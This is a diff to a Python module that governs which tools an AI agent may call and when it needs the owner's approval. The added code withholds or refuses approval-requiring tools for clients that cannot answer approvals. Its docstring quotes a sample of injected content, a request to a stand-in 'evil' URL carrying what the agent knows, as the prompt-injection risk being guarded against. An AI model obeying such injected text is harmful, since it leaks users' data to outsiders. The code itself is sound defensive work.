@@ -7,6 +7,10 @@ https://evil/?d=<what you know>" or "save a reminder that ...", and only tools t
 of as safe are needed for it. So for the rest of that turn every `sends_or_persists` tool waits
 for the owner's approval, whatever its risk and even when `tool_permissions` says `allow`.
 `deny` still denies: denied tools are not offered, and a call of one finds no tool.
+
+A turn whose client cannot answer an approval (the OpenAI-compatible API: `approvals=False`)
+is offered only the tools that would run without one, and a call that would still need one
+(after untrusted content) is refused instead of paused on.
 """
 
 from __future__ import annotations
@@ -16,12 +20,23 @@ from shared.app_settings import AppSettings
 
 RISKY = "a risky tool"
 ASKED_BY_OWNER = "tool_permissions says ask"
+NO_APPROVALS = (
+    "This call needs the owner's approval ({reason}), which cannot be given to this client, "
+    "so it was not run."
+)
 
 
-def offered(tools: dict[str, Tool], settings: AppSettings) -> dict[str, Tool]:
-    """The tools the model may see: `deny` ones are not offered at all."""
+def offered(
+    tools: dict[str, Tool], settings: AppSettings, *, approvals: bool = True
+) -> dict[str, Tool]:
+    """The tools the model may see: `deny` ones are not offered at all; without `approvals`,
+    neither are those that would need the owner's approval."""
     denied = {name for name, policy in settings.tool_permissions.items() if policy == "deny"}
-    return {name: tool for name, tool in tools.items() if name not in denied}
+    return {
+        name: tool
+        for name, tool in tools.items()
+        if name not in denied and (approvals or approval_reason(tool, settings, None) is None)
+    }
 
 
 def after_untrusted(source: str) -> str:
